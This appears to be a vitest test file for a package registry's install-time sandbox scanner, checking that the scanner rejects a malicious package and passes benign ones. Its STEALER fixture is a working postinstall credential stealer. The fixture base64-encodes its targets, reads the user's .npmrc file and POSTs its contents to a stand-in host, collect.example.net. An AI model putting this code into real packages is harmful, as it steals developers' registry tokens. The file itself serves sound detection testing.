// The dynamic stage inside the registry: a version with install-time code runs in the sandbox before it is judged;
// its signals join the score and its trace is stored with the scan and served by the API.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestRegistry, type TestRegistry } from '../helpers/registry.ts'

/** The stealer reads its target and host from a table at run time, as packed payloads do. */
const STEALER = {
  'index.js': 'module.exports = 1\n',
  'setup.js': `const t = ['bnBtcmM=', 'Y29sbGVjdC5leGFtcGxlLm5ldA=='].map((s) => Buffer.from(s, 'base64').toString())
const data = require('fs').readFileSync(require('path').join(require('os').homedir(), '.' + t[0]), 'utf8')
const r = require('https').request({ hostname: t[1], method: 'POST', path: '/' }, (res) => res.resume())
r.on('error', () => {})
r.end(data)
`,
}

describe('the gate with its sandbox (sqlite)', () => {
  let r: TestRegistry
  let owner: string
  beforeAll(async () => {
    r = await startTestRegistry('sqlite', { config: { sandbox: 'install', sandboxStepSeconds: 10 } })
    owner = await r.user('olive')
    await r.deps.db.kysely.updateTable('users').set({ role: 'reviewer' }).where('name', '=', 'olive').execute()
  }, 120_000)
  afterAll(() => r.close())

  const scanOf = async (name: string) => {
    const res = await r.app.inject({ url: `/-/api/v1/scans?name=${name}&version=1.0.0`, headers: { authorization: `Bearer ${owner}` } })
    expect(res.statusCode, res.body).toBe(200)
    return res.json() as { state: string; scans: { verdict: string; signals: { rule: string; message: string }[]; trace?: { summary: Record<string, string>; events: Record<string, unknown>[] } }[] }
  }

  it('rejects a stealer on what it did in the sandbox, and serves the trace', { timeout: 120_000 }, async () => {
    expect((await r.publish(owner, 'dyn-stealer', '1.0.0', { files: STEALER, manifest: { scripts: { postinstall: 'node setup.js' } } })).statusCode).toBe(201)
    await r.settle()
    const body = await scanOf('dyn-stealer')
    const [scan] = body.scans
    expect(scan!.signals.map((s) => s.rule)).toContain('sandbox-honeytoken-egress')
    expect(body.state).toBe('rejected')
    expect(scan!.trace!.summary.personas).toBe('developer, ci, production, windows')
    expect(JSON.stringify(scan!.trace!.events)).toContain('collect.example.net')
  })

  it('publishes a package whose install script only builds, with its trace and no sandbox signal', { timeout: 120_000 }, async () => {
    const files = { 'index.js': 'module.exports = require("./out.js")\n', 'build.js': "require('fs').writeFileSync('out.js', 'module.exports = 42\\n'); console.log('built')\n" }
    expect((await r.publish(owner, 'dyn-builder', '1.0.0', { files, manifest: { scripts: { install: 'node build.js' } } })).statusCode).toBe(201)
    await r.settle()
    const body = await scanOf('dyn-builder')
    expect(body.state).toBe('published')
    expect(body.scans[0]!.signals.filter((s) => s.rule.startsWith('sandbox-'))).toEqual([])
    expect(body.scans[0]!.trace!.summary.signals).toBe('none')
  })

  it('leaves packages without install-time code to the static scan', async () => {
    expect((await r.publish(owner, 'dyn-plain', '1.0.0', { files: { 'index.js': 'module.exports = 2\n' } })).statusCode).toBe(201)
    await r.settle()
    expect((await scanOf('dyn-plain')).scans[0]!.trace).toBeUndefined()
  })
})
